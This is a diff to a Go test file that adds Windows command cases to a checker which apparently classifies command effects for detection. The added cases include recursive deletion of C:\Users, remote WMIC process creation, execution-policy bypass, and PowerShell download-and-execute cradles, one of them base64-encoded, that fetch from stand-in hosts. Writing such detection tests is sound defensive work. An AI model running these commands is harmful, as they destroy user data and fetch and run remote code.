@@ -49,6 +49,18 @@ func TestEffectsLolbas(t *testing.T) {
 		{"sc create", `sc.exe create Up binPath= "C:\x\svc.exe" start= auto`, []middleware.Effect{persist("sc")}, nil},
 		{"sc config start", `sc config Up start= demand`, nil, []middleware.Effect{persist("sc")}},
 		{"sc query", `sc query Up`, nil, []middleware.Effect{persist("sc")}},
+		{"wmic create", `wmic process call create "cmd /c rd /s /q C:\Users"`, []middleware.Effect{del("/Users")}, nil},
+		{"wmic remote", `wmic /node:10.0.0.5 process call create "calc.exe"`, []middleware.Effect{{Op: middleware.EffectNet, Host: "10.0.0.5"}, ex("calc")}, nil},
+		{"wmic list", `wmic process list brief`, nil, []middleware.Effect{unk(ex(""))}},
+		{"forfiles /c", `forfiles /p C:\t /m *.log /c "cmd /c del @file"`, []middleware.Effect{ex("del")}, nil},
+		{"del drive path", `del /s /q C:\Users`, []middleware.Effect{del("/Users")}, nil},
+		{"powershell -File unc", `powershell.exe -ExecutionPolicy Bypass -File \\h.example\s\x.ps1`, []middleware.Effect{fetch("h.example"), unk(ex(""))}, nil},
+		{"powershell -File windows path", `powershell -File C:\Users\Public\r.ps1`, []middleware.Effect{rd("/Users/Public/r.ps1")}, nil},
+		// IEX (iwr https://h.example/a.ps1), as UTF-16LE base64
+		{"powershell -enc", `powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQAuAHAAcwAxACkA`,
+			[]middleware.Effect{fetch("evil.example"), unk(ex(""))}, nil},
+		{"iex(iwr)", `powershell -c "iex(iwr https://h.example/a.ps1)"`, []middleware.Effect{fetch("h.example"), ex("iex")}, nil},
+		{"a subexpression of values", `powershell -c "Write-Output (1+2)"`, nil, []middleware.Effect{ex("1+2")}},
 	})
 }
 
